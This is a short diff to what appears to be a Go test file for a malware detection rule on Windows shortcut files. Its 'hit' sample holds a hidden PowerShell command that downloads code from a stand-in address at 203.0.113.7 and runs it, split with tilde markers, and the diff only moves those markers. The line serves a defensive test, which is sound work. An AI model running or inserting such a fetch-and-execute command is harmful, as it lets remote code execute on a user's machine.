@@ -112,7 +112,7 @@ func shortcutSamples() []ruleSample {
 	return []ruleSample{
 		{
 			rule: "LNK_Runs_Script",
-			hit:  lnk(wide(string(cut(`..\powersh~ell.exe -w hid~den -c "iwr http://203.0.113.7/a | iex"`)))),
+			hit:  lnk(wide(string(cut(`..\powersh~ell.exe -w hid~den -c "iw~r http://203.0.113.7/a | i~ex"`)))),
 			miss: lnk(wide(`C:\Program Files\Example\example.exe --open`)),
 		},
 		{
